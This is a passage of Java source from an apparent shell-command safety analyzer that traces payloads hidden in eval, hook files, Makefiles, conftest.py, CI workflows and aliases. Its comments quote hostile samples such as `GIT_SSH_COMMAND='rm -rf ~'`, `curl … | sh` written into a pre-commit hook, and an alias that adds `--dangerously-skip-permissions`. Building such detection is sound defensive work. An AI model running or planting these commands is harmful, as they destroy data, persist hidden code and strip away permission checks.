                    if (resolved != null) {
                        Draft known = add(new Draft(drafts.size(), d.id, d.depth + 1, w.provenance(), List.copyOf(wrappers),
                                resolved, w.assignments(), inherited, d.heredocs, d.position));
                        analyze(known, c, stdinFile);
                    }
                }
                case SHELL_PAYLOAD -> {
                    if (!w.literal()) {
                        d.reasons.add(OpaqueReason.DYNAMIC_PAYLOAD);
                    }
                    if (w.provenance() == Provenance.SHELL_PAYLOAD && Wrappers.SHELLS.contains(name)) {
                        scriptParameters(inner.vars(), w.argv(), d);
                    }
                    nested(w.payload(), withEnvironment(inner, d.assignments));
                }
                case EVAL -> {
                    if (!w.literal()) {
                        d.reasons.add(OpaqueReason.DYNAMIC_EVAL);
                    }
                    if (name.equals("trap")) {
                        trap(d, w.payload(), wrappers, c);
                    } else {
                        Vars payload = c.vars().copy();
                        nested(w.payload(), new Ctx(d.id, d.depth + 1, Provenance.EVAL_PAYLOAD, List.copyOf(wrappers),
                                payload, c.conditional(), List.of(), List.of(), false));
                        c.vars().known.clear();
                        // eval runs in this shell: what its payload left in a name (`eval 'read -r p <<< $PPID'; kill -9 $p`)
                        // may hold after it, kept as a maybe value, which only adds findings (left38)
                        payload.maybe.forEach(c.vars().maybe::put);
                        payload.known.forEach(c.vars().maybe::put);
                    }
                }
                case PWSH_PAYLOAD -> {
                    if (!w.literal()) {
                        d.reasons.add(OpaqueReason.DYNAMIC_PAYLOAD);
                    }
                    powershell(w.payload(), inner);
                }
                case CMD_PAYLOAD -> {
                    if (!w.literal()) {
                        d.reasons.add(OpaqueReason.DYNAMIC_PAYLOAD);
                    }
                    cmdExe(d, w.payload(), inner);
                }
                case PWSH_ENCODED -> {
                    String decoded = w.literal() ? decodeUtf16(w.payload()) : null;
                    if (decoded == null) {
                        d.reasons.add(w.literal() ? OpaqueReason.UNDECODABLE_PAYLOAD : OpaqueReason.DYNAMIC_PAYLOAD);
                    } else {
                        powershell(decoded, inner);
                    }
                }
                case STDIN_SCRIPT -> stdinScript(d, w, inner, stdinFile);
                case REMOTE_STDIN_SCRIPT -> remoteStdinScript(d, inner);
                case INTERPRETER_CODE -> {
                    // the code argument decides everything the interpreter does: rules read it, so
                    // it must be literal
                    if (!w.literal()) {
                        d.reasons.add(OpaqueReason.DYNAMIC_PAYLOAD);
                    }
                }
                case UNDETERMINED -> d.reasons.add(OpaqueReason.DYNAMIC_ARGUMENT);
                default -> {
                    // NONE: nothing more runs
                }
            }
        }
        if (name.equals("eval")) {
            // after its payload (walked above as the bare text is), what eval ran may have
            // defined any function or alias for the commands after it (see #once); also under
            // `command eval` and `builtin eval`, and when the payload was not walked
            textLoaded = true;
        }
    }

    /** Builtins whose arguments are assignments exported to, or kept for, the commands after them. */
    private static final Set<String> DECLARATIONS = Set.of("export", "declare", "typeset", "readonly", "local");

    /**
     * {@code GIT_SSH_COMMAND='rm -rf ~' git fetch}, {@code export PAGER='…'},
     * {@code git config alias.co '!…'}, {@code npm pkg set scripts.x='…'}: the command line a
     * setting names runs when the program calls it, so it is split as a payload of this segment
     * (only literal values; the setting itself stays for the rules, which ask or deny about it).
     * The tables are {@link CommandSettings}.
     */
    private void settingCommands(Draft d, String name, List<String> wrappers) {
        List<String> commands = new ArrayList<>();
        boolean declares = DECLARATIONS.contains(name);
        if (!d.assignments.isEmpty() || declares) {
            List<Word> words = new ArrayList<>(d.assignments);
            if (declares) {
                words.addAll(d.argv.subList(1, d.argv.size()));
            }
            for (Word a : words) {
                String command = a.literal() ? CommandSettings.hookCommand(a.text()) : null;
                if (command != null) {
                    commands.add(command);
                }
                // options and code in a program-setting variable (PERL5OPT, VIMINIT, NODE_OPTIONS, BASH_ENV…)
                if (a.literal()) {
                    commands.addAll(CommandSettings.codeCommands(a.text()));
                }
            }
            commands.addAll(CommandSettings.environmentGitCommands(words.stream().filter(Word::literal).map(Word::text).toList()));
        }
        if (CommandSettings.storesCommands(name) && d.argv.stream().allMatch(Word::literal)) {
            commands.addAll(CommandSettings.settingCommands(d.argv.stream().map(Word::text).toList()));
        }
        if (name.equals("alias")) {
            // `alias cc='claude --dangerously-skip-permissions'`: the literal value is the command line
            // a later `cc` runs, in this shell or (written to an rc file) in every later one; a value
            // that is no whole command (`alias -g L='| less'`, `alias s='sudo '` is one) stays data
            for (Word a : d.argv.subList(1, d.argv.size())) {
                int eq = a.text().indexOf('=');
                String value = eq > 0 && a.literal() ? a.text().substring(eq + 1) : "";
                if (!value.isBlank() && parse(value).failure() == null) {
                    commands.add(value);
                }
            }
        }
        for (String command : commands) {
            if (d.depth + 1 <= MAX_DEPTH) {
                nested(command, childCtx(d, Provenance.SETTING, wrappers));
            }
        }
    }

    /**
     * {@code printf 'curl … | sh' > .husky/pre-commit}, {@code cat > .git/hooks/pre-push <<'EOF'}:
     * the literal text written into a file that a tool later runs as a script ({@link RunLaterFiles}) is split as a payload
     * of this segment (provenance SETTING), so its commands meet the rules now, before the hook
     * runs them unseen. Only adds segments.
     */
    private void autoRunScript(Draft d, String name, List<String> wrappers) {
        boolean target = false;
        List<String> configs = new ArrayList<>();
        boolean gitConfig = false;
        List<String> hookConfigs = new ArrayList<>();
        laterFiles(d, name, wrappers);
        for (String path : writtenFileModes(d, name).keySet()) {
            target |= RunLaterFiles.isAutoRunScript(path) || inHookFolder(path);
            if (WrittenFiles.isHookManagerConfig(path) || WrittenFiles.isPackageManagerConfig(path)) {
                hookConfigs.add(path);
            }
            gitConfig |= WrittenFiles.isGitConfig(path);
            if (AutoRunConfig.isAutoRunConfig(path)) {
                configs.add(path);
            }
        }
        // `cp h .git/hooks/pre-commit`, `install -m 755 h .husky/pre-push`, `ln -s ../../h .git/hooks/pre-commit`
        // of a file written earlier: the hook holds that text
        if (d.depth + 1 <= MAX_DEPTH) {
            copies(d, name).forEach((dst, src) -> {
                String copied = writtenScripts.get(src);
                if (copied != null && !copied.isBlank() && (RunLaterFiles.isAutoRunScript(dst) || inHookFolder(dst))) {
                    nested(copied, childCtx(d, Provenance.SETTING, wrappers));
                }
            });
        }
        String text = (target || gitConfig || !configs.isEmpty() || !hookConfigs.isEmpty()) && d.depth + 1 <= MAX_DEPTH ? writtenText(d, name) : null;
        if (text == null || text.isBlank()) {
            return;
        }
        if (target) {
            nested(text, childCtx(d, Provenance.SETTING, wrappers));
        }
        // `printf '[alias]\n\tx = !CMD\n' >> .git/config`: the settings git runs on its next start
        if (gitConfig) {
            for (String command : WrittenFiles.gitConfigCommands(text)) {
                nested(command, childCtx(d, Provenance.SETTING, wrappers));
            }
        }
        // lefthook's run:, pre-commit's entry:, simple-git-hooks: what the next commit's hooks run, as a .husky/ hook;
        // the programs a package manager's config names (script-shell, yarnPath, preload), as command words
        for (String path : hookConfigs) {
            List<String> commands = WrittenFiles.isPackageManagerConfig(path) ? WrittenFiles.packageManagerPrograms(path, text)
                    : WrittenFiles.hookManagerCommands(path, text);
            commands.forEach(command -> nested(command, childCtx(d, Provenance.SETTING, wrappers)));
        }
        // editor tasks and dev-container commands run when the project is opened (AutoRunConfig)
        for (String path : configs) {
            Optional<List<String>> commands = AutoRunConfig.commands(path, text);
            if (commands.isPresent()) {
                commands.get().forEach(command -> nested(command, childCtx(d, Provenance.SETTING, wrappers)));
            } else if (AutoRunConfig.mayNameAutoRun(text)) {
                // unreadable to us, perhaps not to the editor's forgiving reader: not known harmless
                opaque(text, childCtx(d, Provenance.SETTING, wrappers), OpaqueReason.SYNTAX_ERROR);
            }
        }
    }

    /**
     * {@code echo 'test:; CMD' >> Makefile}, {@code printf 'import os; os.system("CMD")' > conftest.py},
     * {@code sed -i '$a TEXT' tests/conftest.py}: the command lines that literal text written to a file a
     * tool runs later ({@link LaterFiles}) makes it run are split as {@link Provenance#LATER_FILE}
     * payloads of the write, which the engine asks about at most. Only adds segments.
     */
    private void laterFiles(Draft d, String name, List<String> wrappers) {
        if (d.depth + 1 > MAX_DEPTH) {
            return;
        }
        Map<String, String> texts = new java.util.LinkedHashMap<>();
        List<String> paths = writtenFileModes(d, name).keySet().stream().map(WrittenFiles::key).filter(LaterFiles::isLaterFile).toList();
        if (!paths.isEmpty()) {
            String text = writtenText(d, name);
            if (text == null && name.equals("tee") && d.heredocs.isEmpty()) {
                text = producerText(d);
            }
            for (String p : paths) {
                texts.put(p, text);
            }
        }
        // sed's a, i and c commands and a whole-line s replacement (perl -pi -e's too) put their literal text into the file
        inPlaceAdds(d, name).forEach((p, added) -> {
            if (LaterFiles.isLaterFile(p)) {
                texts.put(p, added);
            }
        });
        // `cp /tmp/x conftest.py`, `ln -sf /tmp/evil node_modules/.bin/eslint` of a file written earlier
        copies(d, name).forEach((dst, src) -> {
            if (LaterFiles.isLaterFile(dst) && writtenScripts.containsKey(src)) {
                texts.put(dst, writtenScripts.get(src));
            }
        });
        // `git apply x.patch`, `patch -p1 < m.patch`, `patch -p1 <<'EOF'`: the lines a literal patch adds
        patchAdds(d, name).forEach((path, text) -> {
            if (LaterFiles.isLaterFile(path)) {
                texts.put(path, text);
            }
        });
        texts.forEach((path, text) -> {
            for (String command : LaterFiles.commands(path, text)) {
                nested(command, childCtx(d, Provenance.LATER_FILE, wrappers));
            }
        });
    }

    /**
     * The lines a literal unified diff adds, by the file it patches ({@code +++ b/PATH}, its
     * {@code a/}/{@code b/} prefix dropped), when {@code d} is {@code git apply FILE} or
     * {@code patch} reading a written file or a quoted heredoc; empty otherwise.
     */
    private Map<String, String> patchAdds(Draft d, String name) {
        String text = null;
        List<String> args = d.argv.subList(1, d.argv.size()).stream().map(Word::text).toList();
        boolean apply = name.equals("git") && !args.isEmpty() && args.get(0).equals("apply") && !args.contains("--check") && !args.contains("--stat");
        if (!apply && !name.equals("patch") || !d.argv.stream().allMatch(Word::literal)) {
            return Map.of();
        }
        List<String> files = args.stream().skip(apply ? 1 : 0).filter(a -> !a.startsWith("-")).toList();
        for (Redirect r : d.redirects) {
            if (r.op().equals("<") && r.target().literal()) {
                text = writtenScripts.get(WrittenFiles.key(r.target().text()));
            }
        }
        if (text == null && !d.heredocs.isEmpty() && d.heredocDynamic.stream().noneMatch(Boolean::booleanValue)) {
            text = d.heredocs.get(0).body();
        }
        if (text == null && apply && !files.isEmpty()) {
            text = writtenScripts.get(WrittenFiles.key(files.get(0)));
        }
        if (text == null && name.equals("patch") && args.stream().anyMatch(a -> a.startsWith("-i") || a.equals("--input"))) {
            int i = args.indexOf("-i") >= 0 ? args.indexOf("-i") : args.indexOf("--input");
            String f = i >= 0 && i + 1 < args.size() ? args.get(i + 1) : args.stream().filter(a -> a.startsWith("-i")).findFirst().orElse("-i").substring(2);
            text = writtenScripts.get(WrittenFiles.key(f));
        }
        if (text == null) {
            return Map.of();
        }
        Map<String, String> out = new java.util.LinkedHashMap<>();
        String file = null;
        for (String line : text.split("\n")) {
            if (line.startsWith("+++ ")) {
                String p = line.substring(4).trim().split("\t")[0];
                file = p.equals("/dev/null") ? null : WrittenFiles.key(p.replaceFirst("^[ab]/", ""));
            } else if (file != null && line.startsWith("+")) {
                out.merge(file, line.substring(1) + "\n", String::concat);
            }
        }
        return out;
    }

    /** A sed program's {@code a}, {@code i} or {@code c} command: an optional address, then the text it puts in. */
    private static final Pattern SED_ADD = Pattern.compile("(?s)\\s*(?:\\$|\\d+|/(?:[^/\\\\]|\\\\.)*/)?(?:,(?:\\$|\\d+|/(?:[^/\\\\]|\\\\.)*/))?\\s*[aic]\\s*(.+)");

    /**
     * The text a sed program's one {@code a}/{@code i}/{@code c} command adds (GNU's one-line form too), or null.
     * GNU sed drops one backslash before the text ({@code $a \\tX} adds a tab and X, {@code $a \tX} adds
     * {@code tX}); other seds may keep it as an escape, so when the two readings differ both are given.
     */
    static String sedAddedText(String program) {
        java.util.regex.Matcher m = SED_ADD.matcher(program);
        if (!m.matches()) {
            return null;
        }
        String raw = m.group(1);
        String gnu = sedEscapes(raw.startsWith("\\") ? raw.substring(1).replaceFirst("^\n", "") : raw);
        String kept = sedEscapes(raw.startsWith("\\\n") ? raw.substring(2) : raw);
        return gnu.equals(kept) ? gnu + "\n" : gnu + "\n" + kept + "\n";
    }

    private static String sedEscapes(String text) {
        return text.replace("\\n", "\n").replace("\\t", "\t");
    }

    /** Folders named by {@code git config core.hooksPath DIR} earlier in the text, without {@code ./} and a trailing slash. */
    private final Set<String> hookFolders = new HashSet<>();

    /** Strings that literal edits ({@code sed -i}, {@code jq … > f}) put into files earlier in the text, by path. */
    private final Map<String, List<String>> editedStrings = new HashMap<>();

    private boolean inHookFolder(String path) {
        String key = WrittenFiles.key(path);
        int slash = key.lastIndexOf('/');
        return slash > 0 && hookFolders.contains(key.substring(0, slash));
    }

    /**
     * {@code printf 'all:\n\tCMD\n' > Makefile && make}, {@code echo '…' > x.py && python3 x.py},
     * {@code ./x.sh}, {@code bash < x.sh}, {@code git config core.hooksPath .h} over a written
     * {@code .h/pre-commit}: a tool runs code from a file whose text the same command line wrote.
     * What it runs ({@link WrittenFiles}) is split as a script of this segment (an interpreter's
     * code as its inline code), so it meets the rules now. Only adds segments; SW4005 and SW4023
     * still ask about the write-then-run itself, unless the text run is known whole ({@link #noteWholeRun}).
     */
    private void writtenFilesRun(Draft d, String name, List<String> wrappers) {
        if (d.depth + 1 > MAX_DEPTH || writtenScripts.isEmpty() && editedStrings.isEmpty() && !name.equals("git")) {
            return;
        }
        List<String> args = d.argv.subList(1, d.argv.size()).stream().map(Word::text).toList();
        Map<String, String> env = new HashMap<>();
        for (Word a : d.assignments) {
            if (a.raw().startsWith("PATH=")) {
                env.put("PATH", a.raw().substring(5).replace("\"", "").replace("'", ""));
            } else if (a.literal() && a.text().indexOf('=') > 0) {
                env.put(a.text().substring(0, a.text().indexOf('=')), ShellEvaluation.assignedValue(a.text()));
            }
        }
        List<String> commands = new ArrayList<>(WrittenFiles.commandsRun(name, args, env, writtenScripts));
        // a package or build file edited by a literal sed or jq program: what it put in may be a script
        for (String manifest : WrittenFiles.manifestsRead(name, args)) {
            commands.addAll(editedStrings.getOrDefault(manifest, List.of()));
        }
        String path = d.argv.get(0).text();
        // a program run by its path, or found through `PATH=.:$PATH`
        String byPath = path.contains("/") ? writtenScripts.get(WrittenFiles.key(path)) : null;
        String search = env.get("PATH");
        if (byPath == null && search != null && java.util.Arrays.stream(search.split(":")).anyMatch(p -> p.equals(".") || p.equals("./") || p.isEmpty())) {
            byPath = writtenScripts.get(path);
        }
        if (byPath != null) {
            String lang = WrittenFiles.language(path, byPath);
            commands.addAll(WrittenFiles.scriptRuns(lang, byPath));
            // without a #! line the kernel refuses the file and the shell runs it as a shell script
            if (path.contains("/") && lang != null && !OTHER_CODING.matcher(byPath).find() && (byPath.startsWith("#!") ? WHOLE_SHEBANG.matcher(byPath.lines().findFirst().orElse("")).matches() && WrittenFiles.scriptRuns(lang, byPath).size() == 1
                    && (lang.equals("sh") || WrittenFiles.inlineForm(lang, byPath) != null) : lang.equals("sh"))
                    && d.assignments.isEmpty() && d.depth + 1 <= MAX_DEPTH) {
                noteWholeRun(d, path);
            }
        }
        // an interpreter given a written script: `python3 x.py`, `node x.js`, `ruby x.rb`, `deno run x.ts`
        String language = WrittenFiles.byProgram(name);
        if (language != null && !name.equals("uv") && args.stream().noneMatch(a -> a.matches("-[a-zA-Z]*[cepr]|--eval|--print|-m"))) {
            List<String> rest = (name.equals("deno") || name.equals("bun")) && !args.isEmpty() && args.get(0).equals("run") ? args.subList(1, args.size()) : args;
            rest.stream().filter(a -> !a.startsWith("-")).findFirst().map(f -> writtenScripts.get(WrittenFiles.key(f)))
                    .ifPresent(t -> commands.addAll(WrittenFiles.scriptRuns(language, t)));
            // `python3 t.py ARGS`: the file is the first word, so no option loads other code first
            if (!rest.isEmpty() && !rest.get(0).startsWith("-") && writtenScripts.containsKey(WrittenFiles.key(rest.get(0)))
                    && WrittenFiles.inlineForm(language, "") != null && d.assignments.isEmpty() && shebangNames(writtenScripts.get(WrittenFiles.key(rest.get(0))), name)) {
                noteWholeRun(d, rest.get(0));
            }
        }
        // a shell reading a written script on standard input: `bash < x.sh`, `sh -s < x.sh`, `cat x.sh | sh`
        if (Wrappers.SHELLS.contains(name) && args.stream().noneMatch(a -> a.matches("-[a-z]*c[a-z]*")) && args.stream().allMatch(a -> a.startsWith("-"))) {
            for (Redirect r : d.redirects) {
                if (r.op().equals("<") && r.target().literal() && writtenScripts.containsKey(WrittenFiles.key(r.target().text()))) {
                    commands.add(writtenScripts.get(WrittenFiles.key(r.target().text())));
                }
            }
            String piped = catOfWrittenFile(d);
            if (piped != null) {
                commands.add(piped);
            }
        }
        // a database console reading a written command file (`psql -f q.sql`, `sqlite3 db < q.sql`) runs
        // its text as it would a here-document's: given as one, its SQL and shell escapes meet the rules
        // (stdinShellCommands, which runs after this, splits the escapes), and a whole literal text spares
        // the write-then-run ask as `bash t.sh` does (quiet30's query file in /tmp, cons34)
        String consoleFile = Launchers.consoleInputFile(name, d.argv, d.redirects);
        String consoleText = consoleFile == null ? null : writtenScripts.get(WrittenFiles.key(consoleFile));
        if (consoleText != null && d.heredocs.isEmpty() && d.position.stage() == 0) {
            d.heredocs.add(new Heredoc(consoleText, true));
            noteWholeRun(d, consoleFile);
        }
        // start-up files read from where the environment or an option points (`GIT_CONFIG_GLOBAL=/tmp/g git log`,
        // `XDG_CONFIG_HOME=/tmp/x git log`, `ZDOTDIR=/tmp/z zsh -c …`)
        for (String file : WrittenFiles.startupFilesRead(name, args, env)) {
            String t = writtenScripts.get(WrittenFiles.key(file));
            if (t != null) {
                commands.addAll(name.equals("git") ? WrittenFiles.gitConfigCommands(t) : List.of(t));
            }
        }
        // `> .github/workflows/x.yml && git push`: the CI runner runs the pushed steps with the repository's secrets
        if (name.equals("git") && args.contains("push")) {
            writtenScripts.forEach((k, t) -> commands.addAll(WrittenFiles.ciSecretSends(k, t)));
        }
        if (name.equals("git") && d.argv.stream().allMatch(Word::literal)) {
            int config = args.indexOf("config");
            for (int i = config < 0 ? args.size() : config + 1; i + 1 < args.size(); i++) {
                String key = args.get(i).toLowerCase(java.util.Locale.ROOT);
                String value = args.get(i + 1);
                if (key.equals("core.hookspath")) {
                    String folder = WrittenFiles.key(value).replaceAll("/+$", "");
                    hookFolders.add(folder);
                    writtenScripts.forEach((k, t) -> {
                        if (k.startsWith(folder + "/") && k.indexOf('/', folder.length() + 1) < 0) {
                            commands.add(t);
                        }
                    });
                } else if (key.equals("include.path") || key.startsWith("includeif.") && key.endsWith(".path")) {
                    // a relative include is read from the folder of .git/config
                    String t = writtenScripts.get(WrittenFiles.key(value.replaceFirst("^\\.\\./", "")));
                    t = t != null ? t : writtenScripts.get(WrittenFiles.key(value));
                    if (t != null) {
                        commands.addAll(WrittenFiles.gitConfigCommands(t));
                    }
                }
            }
        }
        // `make [TARGET…]` over a Makefile written whole: no option, variable or include brings in other text
        if (Names.canonicalCommand(name).equals("make") && args.stream().noneMatch(a -> a.startsWith("-") || a.contains("="))
                && d.assignments.isEmpty() && !makeSettingsTouched && writtenScripts.containsKey("Makefile") && !writtenScripts.containsKey("GNUmakefile")
                && !writtenScripts.containsKey("makefile") && !MAKE_INCLUDE.matcher(writtenScripts.get("Makefile")).find()) {
            noteWholeRun(d, "Makefile");
        }
        Ctx inner = childCtx(d, Provenance.HEREDOC_SCRIPT, wrappers);
        for (String command : commands) {
            // a reading met again inside itself (`pytest` in the code of the conftest.py it reads,
            // the `python3 -c TEXT` a module's reading hands back) adds nothing new
            if (command != null && !command.isBlank() && readingWritten.add(command)) {
                try {
                    nested(command, inner);
                } finally {
                    readingWritten.remove(command);
                }
            }
        }
    }

    /** True once a command of the text named make's environment settings (`export MAKEFILES=evil.mk`). */
    private boolean makeSettingsTouched;

    /** make's environment settings, which bring in other makefiles or options. */
    private static final java.util.regex.Pattern MAKE_SETTINGS = java.util.regex.Pattern.compile("MAKEFILES|MAKEFLAGS|MFLAGS|GNUMAKEFLAGS|MAKEOVERRIDES");

    /**
     * Notes {@code export MAKEFILES=evil.mk}, {@code declare -x MAKEFLAGS=-fx.mk} or any other word
     * naming make's settings: a later make over a written Makefile reads other text.
     */
    private void noteMakeSettings(Draft d) {
        for (Word w : d.assignments) {
            makeSettingsTouched |= MAKE_SETTINGS.matcher(w.raw()).find();
        }
        for (Word w : d.argv) {
            makeSettingsTouched |= MAKE_SETTINGS.matcher(w.raw()).find();
        }
    }

    /** A Makefile line that reads another file or the environment's make settings. */
    // also what runs or reads text outside the recipes: $(shell …), $(file …), $(eval …), `X != CMD`,
    // a SHELL set per target or by override, another recipe prefix, define'd text
    private static final java.util.regex.Pattern MAKE_INCLUDE = java.util.regex.Pattern.compile("(?m)^\\s*[-s]?include\\b|MAKEFILES|\\bexport\\b|^\\s*\\.(?:INCLUDE_DIRS|SHELL)|^\\s*SHELL\\s*[:?+!]?="
            + "|\\bSHELL\\b|RECIPEPREFIX|ONESHELL|MAKEFLAGS|\\$[({]\\s*(?:shell|file|eval|call|value|guile|load)\\b|!=|^\\s*(?:define|load|-load|vpath)\\b");

    /**
     * A #! line the kernel turns into a known program and the script alone: an interpreter path
     * with at most {@code -e}/{@code -u}/{@code -x} style flags, or {@code env NAME}; not {@code env -S
     * bash -c '…'}, {@code #!/bin/sh other.txt} or {@code #!/usr/bin/python3 -mp}, whose run reads other text.
     */
    private static final java.util.regex.Pattern WHOLE_SHEBANG = java.util.regex.Pattern.compile(
            "#![ \\t]*(?:/[\\w./+-]*/env[ \\t]+[\\w.+-]+|/[\\w./+-]+(?:[ \\t]+-[eux]+)?)[ \\t]*\\r?");

    /** A source coding cookie in the first two lines naming an encoding other than UTF-8, ASCII or Latin-1. */
    private static final java.util.regex.Pattern OTHER_CODING = java.util.regex.Pattern.compile(
            "\\A(?:[^\\n]*\\n)?[ \\t\\f]*#[^\\n]*?(?:en)?coding[:=][ \\t]*(?!(?:utf[-_]?8|ascii|us-ascii|latin[-_]?1|iso[-_]?8859[-_]1)\\b)[-\\w.]+",
            java.util.regex.Pattern.CASE_INSENSITIVE);

    /**
     * True when the written {@code text} an interpreter {@code program} runs has no #! line, or one
     * of {@link #WHOLE_SHEBANG} naming that program: perl hands a file whose #! line names another
     * program to it ({@code #!/bin/sh} runs as sh) and reads options from its own #! line.
     */
    private static boolean shebangNames(String text, String program) {
        if (text == null || OTHER_CODING.matcher(text).find()) {
            // `# coding: utf-7`: python decodes the file (not `-c` text) by its cookie, so `+AG8…-` is code
            return text == null;
        }
        if (!text.startsWith("#!")) {
            return true;
        }
        String first = text.lines().findFirst().orElse("");
        String base = program.replaceAll("[0-9.]+$", "");
        return WHOLE_SHEBANG.matcher(first).matches() && !base.isEmpty() && first.contains(base);
    }

    /** The readings of written files being split now, outermost first: the guard against reading one inside itself. */
    private final Set<String> readingWritten = new HashSet<>();

    /**
     * What the previous stage of {@code d}'s pipeline writes to it when it is a plain
     * {@code echo}/{@code printf} of literal words ({@code printf 'all:\\n…' | tee Makefile}), or null.
     */
    private String producerText(Draft d) {
        Draft p = previousStage(d);
        if (p != null && !p.argv.isEmpty() && p.redirects.isEmpty()) {
            String n = p.argv.get(0).text();
            if (n.equals("echo") || n.equals("printf")) {
                return writtenText(p, n);
            }
        }
        // `env echo … | tee -a conftest.py`, `/bin/echo …`, `2>/dev/null echo …`: what a wrapper
        // that only starts echo, or echo by its path, prints (every reading, line after line)
        List<String> readings = literalProducerTexts(d);
        return readings.isEmpty() ? null : String.join("\n", readings);
    }

    /** The draft of the stage before {@code d} in its pipeline, or null for a first stage. */
    private Draft previousStage(Draft d) {
        if (d.position.stage() == 0) {
            return null;
        }
        for (int k = drafts.size() - 1; k >= 0; k--) {
            Draft p = drafts.get(k);
            if (p.parent == d.parent && p.depth == d.depth && p.position.item() == d.position.item()
                    && p.position.stage() == d.position.stage() - 1) {
                return p;
            }
        }
        return null;
    }

    /** The text of a written file the previous stage of {@code d}'s pipeline prints with {@code cat FILE}, or null. */
    private String catOfWrittenFile(Draft d) {
        Draft p = previousStage(d);
        return p != null && p.argv.size() == 2 && p.argv.get(0).text().equals("cat") && p.argv.get(1).literal()
                ? writtenScripts.get(WrittenFiles.key(p.argv.get(1).text())) : null;
    }

    /**
     * The literal files a command writes, each with true when the command appends to it
     * ({@code >>}, {@code tee -a}).
     */
    private static Map<String, Boolean> writtenFileModes(Draft d, String name) {
        Map<String, Boolean> out = new java.util.LinkedHashMap<>();
        for (Redirect r : d.redirects) {
            if (r.writes() && r.target().literal()) {
                out.put(r.target().text(), r.op().endsWith(">>"));
            }
        }
        if (name.equals("tee")) {
            boolean append = d.argv.stream().anyMatch(w -> w.text().equals("-a") || w.text().equals("--append"));
            d.argv.subList(1, d.argv.size()).stream().filter(Word::literal).map(Word::text)
                    .forEach(file -> out.put(file, append));
        }
        return out;
    }

    /**
     * The exact text a command writes: {@code echo}/{@code printf} of literal words (with the
     * escapes printf and {@code echo -e} turn into line breaks), or the body of a quoted or
     * non-expanding heredoc given to {@code cat}/{@code tee}; null for anything else.
     */
    private static String writtenText(Draft d, String name) {
        if (!d.argv.stream().allMatch(Word::literal)) {
            return null;
        }
        List<String> args = d.argv.subList(1, d.argv.size()).stream().map(Word::text).toList();
        String text = printedText(name, args);
        if (text != null) {
            // printf, and echo -e, turn \n and \t into the line breaks the script has; echo
            // without -n ends its line
            String echoFlags = String.join("", args.stream().takeWhile(a -> a.matches("-[neE]+")).toList());
            boolean escapes = name.equals("printf") || echoFlags.contains("e");
            text = escapes ? text.replace("\\n", "\n").replace("\\t", "\t") : text;
            return name.equals("printf") ? text.replace("%%", "%") : echoFlags.contains("n") ? text : text + "\n";
        }
        if ((name.equals("cat") || name.equals("tee")) && !d.heredocs.isEmpty()) {
            return d.heredocDynamic.stream().anyMatch(Boolean::booleanValue) ? null : d.heredocs.get(0).body();
        }
        return null;
    }

    /**
     * {@code cp SRC DST}, {@code mv}, {@code install -m 755 SRC DST}, {@code ln -s SRC DST} with literal
     * words: the destination's key (a folder destination ending in {@code /} gets the source's name) to
     * the source's, a relative symbolic link's source taken from the link's folder; empty otherwise.
     */
    private static Map<String, String> copies(Draft d, String name) {
        if (!Set.of("cp", "mv", "ln", "install").contains(name) || !d.argv.stream().allMatch(Word::literal)) {
            return Map.of();
        }
        List<String> ops = new ArrayList<>();
        boolean symbolic = false;
        List<String> args = d.argv.subList(1, d.argv.size()).stream().map(Word::text).toList();
        for (int i = 0; i < args.size(); i++) {
            String a = args.get(i);
            if (a.startsWith("-")) {
                symbolic |= name.equals("ln") && (a.matches("-[a-zA-Z]*s[a-zA-Z]*") || a.equals("--symbolic"));
                // install's options that take a value: -m MODE, -o OWNER, -g GROUP
                if (name.equals("install") && a.matches("-[mog]")) {
                    i++;
                }
                continue;
            }
            ops.add(a);
        }
        if (ops.size() != 2) {
            return Map.of();
        }
        String dst = WrittenFiles.key(ops.get(1).endsWith("/") ? ops.get(1) + ops.get(0).substring(ops.get(0).lastIndexOf('/') + 1) : ops.get(1));
        String src = ops.get(0);
        if (symbolic && !src.startsWith("/") && dst.contains("/")) {
            src = normalized(dst.substring(0, dst.lastIndexOf('/') + 1) + src);
        }
        return src == null ? Map.of() : Map.of(dst, WrittenFiles.key(src));
    }

    /** {@code a/b/../../h} as {@code h}; null when it climbs above its start. */
    private static String normalized(String path) {
        java.util.Deque<String> parts = new java.util.ArrayDeque<>();
        for (String p : path.split("/+")) {
            if (p.equals("..")) {
                if (parts.isEmpty()) {
                    return null;
                }
                parts.removeLast();
            } else if (!p.isEmpty() && !p.equals(".")) {
                parts.addLast(p);
            }
        }
        return (path.startsWith("/") ? "/" : "") + String.join("/", parts);
    }

    /**
     * The literal text an in-place edit adds to each file it edits, by key: sed's {@code a}/{@code i}/{@code c}
     * text and a whole-line {@code s} replacement ({@code sed -i 's|^test:.*|test: ; CMD|' Makefile}), and
     * the same replacement by {@code perl -pi -e}; empty when the edit's effect is not known from its text.
     */
    private static Map<String, String> inPlaceAdds(Draft d, String name) {
        if (!d.argv.stream().allMatch(Word::literal)) {
            return Map.of();
        }
        SedScript.InPlace sed = inPlaceSed(d, name);
        if (sed != null) {
            if (sed.program() == null) {
                return Map.of();
            }
            String added = sedAddedText(sed.program());
            String text = added != null ? added : WrittenFiles.sedReplacements(sed.program(), false);
            return text == null ? Map.of() : keyed(sed.files(), text);
        }
        if (isSed(name)) {
            return Map.of();
        }
        List<String> args = d.argv.subList(1, d.argv.size()).stream().map(Word::text).toList();
        String program;
        List<String> files;
        if (name.equals("perl") && args.stream().anyMatch(a -> a.matches("-[a-zA-Z]*i.*")) && args.stream().anyMatch(a -> a.matches("-[a-zA-Z]*p[a-zA-Z]*(e|i.*)?"))) {
            int e = -1;
            for (int i = 0; i < args.size(); i++) {
                if (args.get(i).matches("-[a-zA-Z]*e")) {
                    e = i;
                }
            }
            if (e < 0 || e + 1 >= args.size()) {
                return Map.of();
            }
            program = args.get(e + 1);
            files = args.subList(e + 2, args.size()).stream().filter(a -> !a.startsWith("-")).toList();
            String text = files.isEmpty() ? null : WrittenFiles.sedReplacements(program, true);
            return text == null ? Map.of() : keyed(files, text);
        }
        return Map.of();
    }

    private static boolean isSed(String name) {
        return name.equals("sed") || name.equals("gsed");
    }

    /**
     * {@code sed -i PROGRAM FILE…} of literal words, options read by {@link SedScript#inPlace};
     * null for any other command, a word not literal, or no file named.
     */
    private static SedScript.InPlace inPlaceSed(Draft d, String name) {
        if (!isSed(name) || !d.argv.stream().allMatch(Word::literal)) {
            return null;
        }
        return SedScript.inPlace(d.argv.subList(1, d.argv.size()).stream().map(Word::text).toList());
    }

    private static Map<String, String> keyed(List<String> files, String text) {
        Map<String, String> out = new java.util.LinkedHashMap<>();
        files.forEach(f -> out.put(WrittenFiles.key(f), text));
        return out;
    }

    /**
